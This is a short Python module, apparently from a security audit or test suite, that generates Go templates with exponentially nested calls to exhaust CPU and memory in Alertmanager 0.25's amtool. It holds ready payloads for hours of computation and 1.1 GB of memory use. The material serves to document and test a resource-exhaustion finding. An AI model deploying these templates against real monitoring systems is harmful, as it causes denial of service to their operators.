"""Go templates that cost without end, from files of a few hundred bytes (issue 25, finding
4). Alertmanager 0.25's template functions have no `until`, and Go 1.19's `range` takes no
integer: nested calls suffice, each level calling the one below twice."""

from __future__ import annotations


def doubling(levels: int, leaf: str, prefix: str = "level") -> str:
    """Defines prefix0 (`leaf`) to prefix<levels>, the last one 2**levels leaves long."""
    lines = [f'{{{{ define "{prefix}0" }}}}{leaf}{{{{ end }}}}']
    lines += [f'{{{{ define "{prefix}{n}" }}}}{{{{ template "{prefix}{n - 1}" . }}}}'
              f'{{{{ template "{prefix}{n - 1}" . }}}}{{{{ end }}}}' for n in range(1, levels + 1)]
    return "\n".join(lines) + "\n"


NEVER_ENDS = doubling(40, "") + '{{ template "level40" . }}\n'
"""2**40 calls: hours of work, no output, little memory."""
HUGE = doubling(13, "x" * 1024) + '{{ template "level13" . }}\n'
"""8 MiB of mail, in about 54 MB of amtool's memory."""
MEMORY = doubling(18, "x" * 1024) + '{{ template "level18" . }}\n'
"""256 MiB of mail, which amtool builds in memory before it writes any: it took 1.1 GB."""
